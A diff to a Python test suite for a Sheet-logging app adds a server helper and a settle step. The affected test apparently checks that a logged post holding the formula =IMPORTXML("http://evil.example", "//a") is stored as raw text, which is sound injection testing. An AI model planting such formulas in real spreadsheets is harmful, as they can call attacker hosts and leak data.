@@ -218,9 +218,14 @@ def sheet_app(sheets_emulator, tmp_path, monkeypatch):
     clear_caches()
 
 
+def app_server():
+    """The running app's own Server (the same process-wide one the page used)."""
+    return server.for_config(load_config(SECRETS))
+
+
 def app_outbox():
     """The running app's own outbox (the same process-wide singleton the page used)."""
-    return server.for_config(load_config(SECRETS)).outbox()
+    return app_server().outbox()
 
 
 def log_post(at, link: str, summary: str = "", name: str = "Maya Patel", reach: int | None = None):
@@ -257,7 +262,9 @@ def test_a_logged_post_lands_raw_under_the_header_with_an_id(sheet_app):
     assert [r.value_input_option for r in sheet_app.requests("append")] == ["RAW"]
     assert [r.body["values"] for r in sheet_app.requests("append")] == [[last]]
 
-    # Written, but the shared read is older than the write: the post still shows (once), no longer pending.
+    # Written, but the shared read is older than the write: the post still shows (once), no longer pending
+    # (once the server has built the version that knows it was confirmed).
+    app_server().settle()
     at.run()
     assert texts(at).count('=IMPORTXML("http://evil.example", "//a")') == 1
     assert "on its way to the Sheet" not in texts(at)
